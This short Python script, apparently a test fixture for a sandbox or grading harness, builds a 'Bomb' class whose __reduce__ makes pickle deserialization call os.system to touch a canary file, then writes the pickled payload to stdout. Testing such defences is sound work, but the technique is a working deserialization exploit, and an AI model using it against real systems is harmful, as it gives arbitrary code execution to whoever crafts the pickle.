"""Returns an object whose unpickling runs a command."""


class Bomb:
    def __reduce__(self):
        import os

        return os.system, ("touch @CANARY@",)


def solve(n):
    return Bomb()


import pickle, sys

sys.stdout.buffer.write(pickle.dumps(Bomb()))
